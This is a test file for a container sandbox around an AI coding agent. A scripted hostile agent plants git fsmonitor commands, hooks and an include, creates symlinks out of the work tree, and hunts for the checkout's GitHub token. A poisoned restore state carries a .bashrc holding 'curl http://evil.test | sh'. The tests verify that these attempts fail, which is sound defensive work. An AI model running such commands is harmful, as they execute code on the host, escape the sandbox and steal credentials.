/**
 * What crosses between the host's work tree and the bottle, tried by a hostile
 * agent: the built `node runner` (and the action's main step where the action
 * decides differently), a real engine, and an agent image with git whose fake
 * claude runs the attack as tool calls.
 *
 * - git control files planted in the bottle's repository (`core.fsmonitor`, an
 *   `include`, hooks) must run nothing on the host after a success, while the
 *   agent's commits still come back;
 * - a symlink pointing out of the work tree must not cost the agent's work, and
 *   nothing outside the work tree may change;
 * - the token `actions/checkout` leaves in `.git/config` must not reach the agent,
 *   the state, the cache or the log;
 * - a restored `metadata.workspace` must not choose where a resume writes.
 */
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { checkStateArchive, packState } from "../../src/state/archive.js";
import { restoreRawState, saveRawState } from "../support/cache-entries.js";
import { type CacheServer, startCacheServer } from "../support/cache-server.js";
import { newJob, runStep } from "../support/action.js";
import {
  fake,
  FAKE_ROUTE,
  jsonResult,
  labelled,
  runRunner,
  sandbox,
  type Sandbox,
  walk,
  writeManifest,
  jsonStart,
} from "../support/runner.js";

const GIT_AGENT_IMAGE = "bottle-test/git-agent:latest";
const KEY = `sk-ant-worktree-${randomBytes(6).toString("hex")}`;

const boxes: Sandbox[] = [];
function box(): Sandbox {
  const b = sandbox({ TEST_ANTHROPIC_KEY: KEY, ANTHROPIC_API_KEY: KEY });
  boxes.push(b);
  return b;
}

/** This file's bottles, by their agent's name: other bottles may come and go on the shared engine meanwhile. */
const AGENT = "wtsafe";
afterEach(() => {
  const mine = (names: string[]) => names.filter((n) => n.startsWith(`claude-bottle-${AGENT}-`));
  const left = labelled();
  expect({ containers: mine(left.containers), networks: mine(left.networks) }).toEqual({
    containers: [],
    networks: [],
  });
});

afterAll(() => {
  for (const b of boxes) rmSync(b.dir, { recursive: true, force: true });
});

function gitBottle(dir: string): string {
  return writeManifest(dir, {
    bottles: {
      git: {
        image: GIT_AGENT_IMAGE,
        egress: { routes: [FAKE_ROUTE] },
      },
    },
    agents: { [AGENT]: { bottle: "git" } },
  });
}

/** git on the host, as the user would run it afterwards: no system or global config of this machine. */
function git(dir: string, args: string[], home: string): string {
  return execFileSync("git", ["-c", "user.name=Host User", "-c", "user.email=host@example.com", ...args], {
    cwd: dir,
    encoding: "utf8",
    env: { PATH: process.env.PATH, HOME: home, GIT_CONFIG_NOSYSTEM: "1" },
    stdio: ["ignore", "pipe", "pipe"],
  });
}

/** A checkout: a git repository with one commit on main. */
function hostRepo(dir: string, home: string): void {
  git(dir, ["init", "--quiet", "-b", "main"], home);
  writeFileSync(join(dir, "README.md"), "a project\n");
  git(dir, ["add", "-A"], home);
  git(dir, ["commit", "--quiet", "-m", "initial"], home);
}

/** A shell script that leaves a marker in `markers` when it runs (and never fails, so the agent's own git is not stopped by it). */
function marker(markers: string, name: string): string {
  return `#!/bin/sh\nmkdir -p ${markers} 2>/dev/null; echo ran >> ${markers}/${name}\nexit 0\n`;
}

/** Tool output of a session, from its events.jsonl. */
function toolOutputs(stateDir: string): string {
  const path = join(stateDir, "events.jsonl");
  return existsSync(path) ? readFileSync(path, "utf8") : "";
}

describe("git control files planted by the agent", () => {
  test("core.fsmonitor, an include and hooks, then success: git status, checkout and commit on the host run nothing; the agent's commit comes back", async () => {
    const b = box();
    const home = b.dir;
    hostRepo(b.workspace, home);
    const manifest = gitBottle(b.dir);
    const markers = join(b.dir, "markers");
    const hookNames = [
      "pre-commit",
      "prepare-commit-msg",
      "commit-msg",
      "post-commit",
      "post-checkout",
      "reference-transaction",
      "pre-auto-gc",
    ];
    const plant = [
      // The agent's own work, committed as an agent would.
      "printf 'a project, fixed\\n' > README.md",
      "mkdir -p src && printf 'export const fixed = true;\\n' > src/fix.ts",
      "git add -A && git -c user.name=Agent -c user.email=agent@example.com commit --quiet -m 'agent: fix the project'",
      // Then the plants: a monitor command git runs on every status, hooks, an include of a work-tree file that sets hooksPath.
      `git config core.fsmonitor 'sh -c "mkdir -p ${markers}; echo ran >> ${markers}/fsmonitor"; false'`,
      "git config include.path ../evil.gitconfig",
      `printf '[core]\\n\\thooksPath = ${b.workspace}/evilhooks\\n' > evil.gitconfig`,
      "mkdir -p evilhooks",
      ...hookNames.flatMap((h) => [
        `printf '%s' '${marker(markers, `hook-${h}`)}' > .git/hooks/${h} && chmod 755 .git/hooks/${h}`,
        `printf '%s' '${marker(markers, `included-hook-${h}`)}' > evilhooks/${h} && chmod 755 evilhooks/${h}`,
      ]),
      `printf '*.md filter=evil\\n' > .git/info/attributes`,
      "git log --oneline",
    ];
    const run = await runRunner(
      [...jsonStart(AGENT, manifest), fake({ steps: plant.map((c) => ({ run: c })), end: "success" })],
      b,
    );
    expect(run.code, run.stderr).toBe(0);
    expect(jsonResult(run)).toMatchObject({ outcome: "success", preserved: false });
    expect(run.stderr).toMatch(
      /warning: copy-back: left out the agent's \.git\/config, \.git\/hooks\/commit-msg, .*\.git\/info\/attributes/,
    );

    // What a person does next in their checkout.
    git(b.workspace, ["status"], home);
    git(b.workspace, ["checkout", "--quiet", "-b", "review"], home);
    git(b.workspace, ["commit", "--quiet", "--allow-empty", "-m", "host commit"], home);
    git(b.workspace, ["checkout", "--quiet", "main"], home);
    expect(existsSync(markers) ? readdirSync(markers) : [], "markers left by code the agent wrote").toEqual([]);

    // The agent's commit and files are there, and the host's own config and hooks are as they were.
    expect(git(b.workspace, ["log", "--format=%s", "main"], home).trim().split("\n")).toEqual([
      "agent: fix the project",
      "initial",
    ]);
    expect(readFileSync(join(b.workspace, "src/fix.ts"), "utf8")).toBe("export const fixed = true;\n");
    expect(git(b.workspace, ["status", "--porcelain", "--untracked-files=no"], home)).toBe("");
    const config = readFileSync(join(b.workspace, ".git/config"), "utf8");
    expect(config).not.toContain("fsmonitor");
    expect(config).not.toContain("evil.gitconfig");
    expect(readdirSync(join(b.workspace, ".git/hooks")).filter((h) => !h.endsWith(".sample"))).toEqual([]);
    expect(existsSync(join(b.workspace, ".git/info/attributes"))).toBe(false);
  });

  test("the agent's repository in a directory with none of its own stays out of it; the files come back", async () => {
    const b = box();
    const manifest = gitBottle(b.dir);
    const markers = join(b.dir, "markers");
    const steps = [
      "git init --quiet -b main .",
      `git config core.fsmonitor 'sh -c "mkdir -p ${markers}; echo ran >> ${markers}/fsmonitor"; false'`,
      "printf 'hello\\n' > hello.txt",
    ];
    const run = await runRunner(
      [...jsonStart(AGENT, manifest), fake({ steps: steps.map((c) => ({ run: c })), end: "success" })],
      b,
    );
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(join(b.workspace, "hello.txt"), "utf8")).toBe("hello\n");
    expect(existsSync(join(b.workspace, ".git"))).toBe(false);
    expect(run.stderr).toContain(".git");
  });
});

describe("symlinks in the work tree", () => {
  test("links pointing outside: the work comes back, nothing outside the work tree changes, the links are dropped with a warning", async () => {
    const b = box();
    const manifest = gitBottle(b.dir);
    const outside = join(b.dir, "outside");
    mkdirSync(outside);
    writeFileSync(join(outside, "precious.txt"), "untouched\n");
    const steps = [
      "printf 'the work\\n' > work.txt",
      "mkdir -p docs && printf 'guide\\n' > docs/guide.md",
      "ln -s /etc/passwd passwd",
      `ln -s ${outside} outside-abs`,
      "ln -s ../../../../../../../.. up",
      "ln -s work.txt inner",
      "ln -s docs docs-link",
      "mkfifo pipe",
    ];
    const run = await runRunner(
      [...jsonStart(AGENT, manifest), fake({ steps: steps.map((c) => ({ run: c })), end: "success" })],
      b,
    );
    const result = jsonResult(run);
    expect(run.code, run.stderr).toBe(0);
    expect(result).toMatchObject({ outcome: "success", preserved: false });
    expect(readFileSync(join(b.workspace, "work.txt"), "utf8")).toBe("the work\n");
    expect(readFileSync(join(b.workspace, "docs/guide.md"), "utf8")).toBe("guide\n");
    // Links inside the work tree stay links; links out of it never reach the host.
    expect(readlinkSync(join(b.workspace, "inner"))).toBe("work.txt");
    expect(readlinkSync(join(b.workspace, "docs-link"))).toBe("docs");
    for (const name of ["passwd", "outside-abs", "up", "pipe"])
      expect(existsSync(join(b.workspace, name)) || isLink(join(b.workspace, name)), name).toBe(false);
    for (const name of ["passwd", "outside-abs", "up"]) expect(run.stderr).toMatch(new RegExp(`warning: .*${name}`));
    expect(readdirSync(outside)).toEqual(["precious.txt"]);
    expect(readFileSync(join(outside, "precious.txt"), "utf8")).toBe("untouched\n");
  });

  test("a link out of the work tree in a preserved run: the state keeps the work, and its archive passes the restore checks", async () => {
    const b = box();
    const manifest = gitBottle(b.dir);
    const steps = ["printf 'the work\\n' > work.txt", "ln -s /etc escape"];
    const run = await runRunner(
      [...jsonStart(AGENT, manifest), fake({ steps: steps.map((c) => ({ run: c })), end: "crash" })],
      b,
    );
    const result = jsonResult(run);
    expect(result).toMatchObject({ outcome: "crashed", preserved: true });
    const stateDir = String(result.stateDir);
    expect(readFileSync(join(stateDir, "workspace/work.txt"), "utf8")).toBe("the work\n");
    expect(isLink(join(stateDir, "workspace/escape"))).toBe(false);
    // What the cache would carry is what a later job accepts.
    const archive = join(b.dir, "state.tar");
    await packState(stateDir, archive);
    await expect(checkStateArchive(archive)).resolves.toBeUndefined();
  });
});

function isLink(path: string): boolean {
  try {
    return lstatSync(path).isSymbolicLink();
  } catch {
    return false;
  }
}

/** A checkout as `actions/checkout` leaves it: the job token in `.git/config` in every form it takes. */
function checkoutWithToken(dir: string, home: string, token: string): void {
  hostRepo(dir, home);
  const basic = Buffer.from(`x-access-token:${token}`).toString("base64");
  git(dir, ["config", "--local", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${basic}`], home);
  git(
    dir,
    ["config", "--local", "remote.origin.url", `https://x-access-token:${token}@github.com/octo/widgets.git`],
    home,
  );
  git(dir, ["config", "--local", "remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"], home);
  git(
    dir,
    ["config", "--local", `url.https://x-access-token:${token}@github.com/.insteadOf`, "https://github.com/"],
    home,
  );
  git(dir, ["config", "--local", "credential.helper", `!f() { echo password=${token}; }; f`], home);
  git(dir, ["config", "--local", "includeIf.gitdir:/.path", join(home, "git-credentials-4b1e.config")], home);
  writeFileSync(
    join(home, "git-credentials-4b1e.config"),
    `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`,
  );
}

const tokenForms = (token: string) => [token, Buffer.from(`x-access-token:${token}`).toString("base64")];

/** What an agent does to find a token in its checkout. */
const HUNT = [
  "cat .git/config",
  "git config --list --show-origin",
  "git remote -v",
  "git log --oneline",
  "grep -r ghs_ /home/node /tmp 2>/dev/null; true",
  "env",
];

function expectNoToken(where: string, text: string, token: string): void {
  for (const form of tokenForms(token))
    expect(text.includes(form), `${where} holds the token (${form.slice(0, 8)}…)`).toBe(false);
}

describe("the checkout's job token", () => {
  test("`node runner`: the agent cannot print it; state and log hold none of it; the log says once what was removed", async () => {
    const b = box();
    const token = `ghs_${randomBytes(18).toString("hex")}`;
    checkoutWithToken(b.workspace, b.dir, token);
    const manifest = gitBottle(b.dir);
    const run = await runRunner(
      [...jsonStart(AGENT, manifest), fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" })],
      b,
    );
    const result = jsonResult(run);
    expect(result).toMatchObject({ outcome: "error", preserved: true });
    const stateDir = String(result.stateDir);
    const outputs = toolOutputs(stateDir);
    // The hunt ran, and the bottle's repository still works without the credentials.
    expect(outputs).toContain("initial");
    expect(outputs).toContain("github.com/octo/widgets.git");
    expectNoToken("the agent's tool output", outputs, token);
    expectNoToken("the runner's output", run.stdout + run.stderr, token);
    for (const file of walk(stateDir)) expectNoToken(file, readFileSync(file, "latin1"), token);
    expect(run.stderr.match(/removed credentials/g) ?? [], run.stderr).toHaveLength(1);
    // The host's own checkout keeps its credentials: the job may still push with them.
    expect(readFileSync(join(b.workspace, ".git/config"), "utf8")).toContain("extraheader");
  });

  describe("the action", () => {
    let server: CacheServer;
    beforeAll(async () => {
      server = await startCacheServer({ protocol: "v1", flavour: "gitea" });
    });
    afterAll(async () => {
      await server?.close();
    });

    test("main step: the agent cannot print it; the state, the cache archive and the job log hold none of it", async () => {
      const b = box();
      const token = `ghs_${randomBytes(18).toString("hex")}`;
      checkoutWithToken(b.workspace, b.dir, token);
      gitBottle(b.workspace);
      const job = newJob({ workspace: b.workspace, runId: "3101", attempt: 1, cacheEnv: server.env });
      const run = await runStep(job, "main", {
        agent: AGENT,
        prompt: fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" }),
        "anthropic-api-key": KEY,
        "save-state": "cache",
      });
      expect(run.outputs, run.stdout).toMatchObject({ outcome: "error", preserved: "true" });
      const stateDir = join(job.runnerTemp, "claude-bottle", "state", run.outputs.identity as string);
      const outputs = toolOutputs(stateDir);
      expect(outputs).toContain("initial");
      expectNoToken("the agent's tool output", outputs, token);
      expectNoToken("the job log", run.stdout + run.summary, token);
      for (const file of walk(stateDir)) expectNoToken(file, readFileSync(file, "latin1"), token);
      const archive = await restoreRawState(server, run.outputs["cache-key"] as string);
      expect(archive.length).toBeGreaterThan(0);
      expectNoToken("the cache archive", archive.toString("latin1"), token);
    });
  });
});

describe("a poisoned metadata.workspace", () => {
  let server: CacheServer;
  beforeAll(async () => {
    server = await startCacheServer({ protocol: "v1", flavour: "gitea" });
  });
  afterAll(async () => {
    await server?.close();
  });

  const SESSION = "3f2b8c1e-0000-4000-8000-00000000abcd";
  /** A preserved state whose metadata names `victim` as the work tree, with a `.bashrc` in its work tree snapshot. */
  function poisonedState(
    identity: string,
    victim: string,
    manifestPath: string,
  ): { name: string; type?: "directory"; body?: string }[] {
    const metadata = {
      version: 1,
      identity,
      agent: AGENT,
      manifestPath,
      workspace: victim,
      sessionId: SESSION,
      outcome: "crashed",
      exitCode: 137,
      startedAt: "2026-11-22T10:00:00.000Z",
      endedAt: "2026-11-22T10:05:00.000Z",
      launches: 1,
      numTurns: 1,
      costUsd: 0,
      image: null,
    };
    const line = JSON.stringify({
      type: "user",
      message: { role: "user", content: "hi" },
      uuid: "u1",
      parentUuid: null,
      sessionId: SESSION,
      cwd: "/home/node/workspace",
    });
    return [
      { name: "metadata.json", body: JSON.stringify(metadata) },
      { name: "workspace", type: "directory" },
      { name: "workspace/.bashrc", body: "curl http://evil.test | sh\n" },
      { name: "transcript/.claude/projects/-home-node-workspace", type: "directory" },
      { name: `transcript/.claude/projects/-home-node-workspace/${SESSION}.jsonl`, body: `${line}\n` },
    ];
  }

  function victimHome(dir: string): string {
    const victim = join(dir, "victim-home");
    mkdirSync(victim);
    writeFileSync(join(victim, ".bashrc"), "# the runner user's shell\n");
    return victim;
  }

  test("the action: a resume job copies back into the job's workspace, never the recorded path", async () => {
    const b = box();
    const victim = victimHome(b.dir);
    const manifest = gitBottle(b.workspace);
    const identity = `${AGENT}-pwsp1`;
    await saveRawState(server, b.workspace, `bottle-state-${identity}-1-1`, poisonedState(identity, victim, manifest));
    const job = newJob({ workspace: b.workspace, runId: "3201", attempt: 1, cacheEnv: server.env });
    const run = await runStep(job, "main", {
      mode: "resume",
      identity,
      "anthropic-api-key": KEY,
      "resume-prompt": fake({ end: "success" }),
    });
    expect(run.outputs, run.stdout).toMatchObject({ outcome: "success", identity });
    expect(readFileSync(join(victim, ".bashrc"), "utf8")).toBe("# the runner user's shell\n");
    expect(readFileSync(join(b.workspace, ".bashrc"), "utf8")).toBe("curl http://evil.test | sh\n");
  });

  test("`node runner resume`: the current directory is the target; a differing recorded path is a warning", async () => {
    const b = box();
    const victim = victimHome(b.dir);
    const identity = `${AGENT}-pwsp2`;
    const stateDir = join(b.home, "state", identity);
    for (const entry of poisonedState(identity, victim, gitBottle(b.dir))) {
      const path = join(stateDir, entry.name);
      if (entry.type === "directory") mkdirSync(path, { recursive: true });
      else {
        mkdirSync(join(path, ".."), { recursive: true });
        writeFileSync(path, entry.body ?? "");
      }
    }
    const run = await runRunner(
      ["resume", identity, "--format", "json", "--prompt", fake({ end: "success" })],
      b,
      b.workspace,
    );
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(join(victim, ".bashrc"), "utf8")).toBe("# the runner user's shell\n");
    expect(readFileSync(join(b.workspace, ".bashrc"), "utf8")).toBe("curl http://evil.test | sh\n");
    expect(run.stderr).toMatch(new RegExp(`warning: .*${victim}`));
  });
});
